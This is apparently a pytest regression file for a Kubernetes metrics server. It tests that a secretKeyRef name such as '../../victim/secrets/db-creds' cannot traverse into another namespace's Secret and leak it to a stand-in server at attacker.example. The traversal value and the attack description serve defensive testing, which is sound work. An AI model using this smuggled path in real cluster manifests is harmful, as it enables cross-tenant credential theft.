"""Names are names: a Secret reference can never become a path to another namespace's Secret.

Reproduced attack (issue 10, item 1): a KeptnMetricsProvider in a tenant namespace with
`secretKeyRef.name: ../../victim/secrets/db-creds` made the server GET victim/db-creds
(the name went into the REST path unescaped and `..` collapsed) and send the value to the
tenant's server.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from metrics_server.cli import main
from metrics_server.fetch import resolve_secret
from metrics_server.kube.client import ApiException, InvalidPathSegment, resource_path
from metrics_server.kube.store import KubernetesStore
from metrics_server.model import (
    KeptnMetricsProvider,
    ObjectKey,
    ObjectMeta,
    SecretKeyRef,
    ValidationError,
    parse_metric,
    parse_provider,
)
from metrics_server.names import dns1123_label_errors, dns1123_subdomain_errors, path_segment_errors
from providers import BackendError
from tests.kube_fixtures import KubeEnv

ATTACK = "../../victim/secrets/db-creds"


def attack_provider(namespace: str = "tenant-a") -> dict:
    return {
        "apiVersion": "metrics.keptn.sh/v1",
        "kind": "KeptnMetricsProvider",
        "metadata": {"name": "mine", "namespace": namespace},
        "spec": {
            "type": "http",
            "targetServer": "http://attacker.example:8080",
            "secretKeyRef": {"name": ATTACK, "key": "password"},
        },
    }


# -- the API server's own rules -------------------------------------------------------------


@pytest.mark.parametrize("name", ["db-creds", "a", "a.b.c", "0x1", "a" * 253])
def test_valid_object_names(name: str) -> None:
    assert dns1123_subdomain_errors(name) == []


@pytest.mark.parametrize(
    "name", ["", ATTACK, "..", ".", "a/b", "a%2Fb", "Upper", "-a", "a-", "a_b", "a" * 254]
)
def test_invalid_object_names(name: str) -> None:
    assert dns1123_subdomain_errors(name)


@pytest.mark.parametrize("ns", ["a.b", "x" * 64, "tenant_a", ""])
def test_namespaces_are_labels(ns: str) -> None:
    assert dns1123_label_errors(ns) and not dns1123_label_errors("tenant-a")


def test_path_segment_rule_matches_apimachinery() -> None:
    assert path_segment_errors("..") == ["may not be '..'"]
    assert path_segment_errors("a/b%c") == ["may not contain '/'", "may not contain '%'"]
    assert path_segment_errors("ok.name") == []


# -- the model and `validate` -------------------------------------------------------------------


def test_model_rejects_path_in_secret_ref() -> None:
    with pytest.raises(ValidationError) as err:
        parse_provider(attack_provider())
    assert err.value.field_path == "spec.secretKeyRef.name"


def test_model_rejects_invalid_provider_reference() -> None:
    doc = {
        "apiVersion": "metrics.keptn.sh/v1",
        "kind": "KeptnMetric",
        "metadata": {"name": "m", "namespace": "tenant-a"},
        "spec": {"provider": {"name": "../x"}, "query": "up", "fetchIntervalSeconds": 5},
    }
    with pytest.raises(ValidationError) as err:
        parse_metric(doc)
    assert err.value.field_path == "spec.provider.name"


def test_validate_reports_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import yaml

    path = tmp_path / "provider.yaml"
    path.write_text(yaml.safe_dump(attack_provider()))
    assert main(["validate", str(path)]) != 0
    out = capsys.readouterr()
    assert "spec.secretKeyRef.name" in out.out + out.err


def test_upstream_style_names_stay_valid() -> None:
    doc = attack_provider()
    doc["spec"]["secretKeyRef"] = {"name": "prometheus-basic-auth.v2", "key": "password"}
    assert parse_provider(doc).secret_key_ref == SecretKeyRef("prometheus-basic-auth.v2", "password")


# -- the Kubernetes client ------------------------------------------------------------------------


def test_resource_path_refuses_dot_segments_and_encodes_the_rest() -> None:
    with pytest.raises(InvalidPathSegment):
        resource_path("", "v1", "secrets", "tenant-a", ATTACK)
    with pytest.raises(InvalidPathSegment):
        resource_path("", "v1", "secrets", "..", "x")
    assert (
        resource_path("", "v1", "secrets", "tenant-a", "a b?c#d")
        == "/api/v1/namespaces/tenant-a/secrets/a%20b%3Fc%23d"
    )


# -- against the stand-in (and a real API server when configured) ---------------------------------


@pytest.mark.kube
async def test_crd_schema_rejects_the_attack(kube: KubeEnv) -> None:
    doc = attack_provider(kube.namespace)
    with pytest.raises(ApiException) as err:
        await kube.create(doc)
    assert err.value.status == 422


async def _victim(kube: KubeEnv) -> str:
    victim = f"{kube.namespace}-victim"
    await kube.client.create_object(
        "/api/v1/namespaces", {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": victim}}
    )
    await kube.create(
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "db-creds"},
            "data": {"password": base64.b64encode(b"victim-db-password").decode()},
        },
        victim,
    )
    return victim


@pytest.mark.kube
async def test_store_never_reads_another_namespace_secret(kube: KubeEnv) -> None:
    """Even when the object got past an old CRD without patterns, nothing leaves the namespace."""
    victim = await _victim(kube)
    store = KubernetesStore(
        await kube.new_client(), namespaces=[kube.namespace], server_namespace=kube.namespace
    )
    await store.start()
    try:
        # the provider as a parser-bypassing caller would build it: the store is the last line
        provider = KeptnMetricsProvider(
            meta=ObjectMeta(kube.namespace, "mine"),
            type="http",
            target_server="http://attacker.example:8080",
            secret_key_ref=SecretKeyRef(f"../../{victim}/secrets/db-creds", "password"),
        )
        assert await store.provider_secret(provider) is None
        with pytest.raises(BackendError, match="not found"):
            await resolve_secret(store, provider)
        if kube.standin is not None:
            secret_reads = [r for r in kube.standin.requests if r.resource == "secrets" and r.verb == "get"]
            assert all(r.namespace == kube.namespace for r in secret_reads)
            assert not any(r.namespace == victim for r in secret_reads)
    finally:
        await store.stop()
        await kube.client.delete(f"/api/v1/namespaces/{victim}")


@pytest.mark.kube
async def test_invalid_provider_is_ignored_by_the_store(kube: KubeEnv, standin_only) -> None:  # type: ignore[no-untyped-def]
    """A provider written before the CRD had the pattern is left out of the store, not used."""
    standin_only.crd_schemas = {}
    await kube.create(attack_provider(kube.namespace))
    store = KubernetesStore(
        await kube.new_client(), namespaces=[kube.namespace], server_namespace=kube.namespace
    )
    await store.start()
    try:
        assert store.get_provider(ObjectKey(kube.namespace, "mine")) is None
    finally:
        await store.stop()
